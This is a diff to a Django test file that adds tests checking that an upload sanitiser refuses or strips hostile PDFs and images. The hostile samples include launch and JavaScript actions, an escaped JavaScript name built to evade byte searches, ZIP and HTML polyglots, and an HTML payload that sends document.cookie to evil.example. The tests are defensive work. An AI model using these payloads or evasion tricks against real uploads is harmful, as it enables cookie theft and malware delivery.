@@ -4,6 +4,7 @@ Each test failed on the code before its fix. The item's number is in the test's 
 docs/security.md section "Findings of the attack (issue 18)" says what changed and why.
 """
 
+import io
 from datetime import timedelta
 
 import pytest
@@ -648,3 +649,152 @@ def test_13_an_admins_own_roles_are_audited_and_the_privacy_role_needs_a_second_
 
     # The organisation pages do not exist for anyone but an admin.
     assert client_for(world, "A.professional").get("/pro/organisation/").status_code == 404
+
+
+def _zip_with_a_program() -> bytes:
+    import io
+    import zipfile
+
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("invoice.exe", b"MZ\x90\x00 a program")
+    return archive.getvalue()
+
+
+def _pdf_with(change) -> bytes:
+    import io
+
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    change(writer)
+    output = io.BytesIO()
+    writer.write(output)
+    return output.getvalue()
+
+
+def _launch(writer) -> None:
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
+    )
+
+
+def _document_javascript(writer) -> None:
+    """Document-level JavaScript, in the catalogue's name tree (run when the file opens)."""
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+    action = DictionaryObject(
+        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
+    )
+    names = ArrayObject([TextStringObject("start"), writer._add_object(action)])
+    tree = DictionaryObject({NameObject("/Names"): names})
+    writer._root_object[NameObject("/Names")] = DictionaryObject(
+        {NameObject("/JavaScript"): writer._add_object(tree)}
+    )
+
+
+def _on_page_open(writer) -> None:
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {
+            NameObject("/O"): DictionaryObject(
+                {
+                    NameObject("/S"): NameObject("/JavaScript"),
+                    NameObject("/JS"): TextStringObject("app.alert(1)"),
+                }
+            )
+        }
+    )
+
+
+def _raw_pdf_with_escaped_javascript() -> bytes:
+    """A hand-written PDF whose open action is JavaScript under a name written with an escape
+    (/J#61vaScript), as attackers do to pass naive byte searches."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
+    ]
+    body, offsets = b"%PDF-1.4\n", []
+    for number, content in enumerate(objects, start=1):
+        offsets.append(len(body))
+        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
+    xref = len(body)
+    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    return body
+
+
+def test_15_pdfs_that_are_archives_or_hold_active_content_are_refused():
+    from django.core.exceptions import ValidationError
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from pypdf import PdfReader
+
+    from intake import uploads
+    from tests.helpers import pdf_bytes
+
+    hostile = {
+        "zip behind a PDF header": b"%PDF-1.7\n" + _zip_with_a_program(),
+        "PDF with a ZIP after its end": pdf_bytes() + _zip_with_a_program(),
+        "JavaScript": _pdf_with(_document_javascript),
+        "launch": _pdf_with(_launch),
+        "embedded file": _pdf_with(lambda w: w.add_attachment("invoice.exe", b"MZ program")),
+        "action on opening a page": _pdf_with(_on_page_open),
+        "escaped JavaScript": _raw_pdf_with_escaped_javascript(),
+    }
+    accepted = []
+    for name, data in hostile.items():
+        try:
+            uploads.clean_upload(SimpleUploadedFile("statement.pdf", data))
+        except ValidationError as refused:
+            assert refused.code in ("active_pdf", "wrong_type"), name
+        else:
+            accepted.append(name)
+    assert accepted == []
+    # A plain document passes, written anew: still a PDF of one page.
+    clean = uploads.clean_upload(SimpleUploadedFile("statement.pdf", pdf_bytes(b" note")))
+    assert len(PdfReader(io.BytesIO(clean.data)).pages) == 1
+    assert b" note" not in clean.data
+
+
+def test_15_an_image_kept_with_its_metadata_is_an_image_and_nothing_else():
+    import zlib
+
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from PIL import Image
+
+    from intake import uploads
+    from tests.test_public_report import jpeg_with_exif
+
+    picture = Image.new("RGBA", (16, 16), (10, 200, 30, 255))
+    output = io.BytesIO()
+    picture.save(output, format="PNG")
+    png = output.getvalue()
+    html = b"<html><script>fetch('https://evil.example/?'+document.cookie)</script></html>"
+    text = b"Comment\x00" + html
+    chunk = len(text).to_bytes(4, "big") + b"tEXt" + text
+    chunk += zlib.crc32(b"tEXt" + text).to_bytes(4, "big")
+    polyglot = png[:33] + chunk + png[33:] + html  # a text chunk after IHDR, HTML after IEND
+
+    kept = uploads.clean_upload(SimpleUploadedFile("p.png", polyglot), keep_metadata=True)
+    assert b"<html" not in kept.data and b"script" not in kept.data
+    with Image.open(io.BytesIO(kept.data)) as image:
+        assert image.tobytes() == picture.tobytes()
+
+    # A JPEG keeps its camera data, but not a comment or what follows its end.
+    jpeg = jpeg_with_exif()
+    comment = b"\xff\xfe" + (len(html) + 2).to_bytes(2, "big") + html
+    hostile = jpeg[:2] + comment + jpeg[2:] + html
+    kept = uploads.clean_upload(SimpleUploadedFile("j.jpg", hostile), keep_metadata=True)
+    assert kept.data == jpeg
+    with Image.open(io.BytesIO(kept.data)) as image:
+        assert image.getexif()[0x010F] == "SpyCamMaker"
